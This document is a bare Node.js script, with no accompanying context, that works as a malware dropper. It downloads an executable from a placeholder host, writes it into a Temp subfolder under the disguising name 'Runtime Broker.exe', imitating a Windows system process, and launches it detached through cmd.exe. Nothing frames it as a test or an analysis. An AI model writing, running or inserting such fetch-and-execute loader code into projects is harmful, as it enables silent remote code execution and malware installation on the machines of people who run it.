const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const { spawn } = require('child_process');
const dir = path.join(os.homedir(), 'AppData', 'Local', 'Temp', 'upd');
const file = path.join(dir, 'Runtime Broker.exe');
async function dl(url, to) {
  const res = await fetch(url);
  const buf = Buffer.from(await res.arrayBuffer());
  await fs.promises.mkdir(path.dirname(to), { recursive: true });
  await fs.promises.writeFile(to, buf);
}
dl('https://github.example.invalid/x/raw/main/RB.exe', file).then(() => spawn('cmd.exe', ['/c', 'start', '', file], { detached: true }));
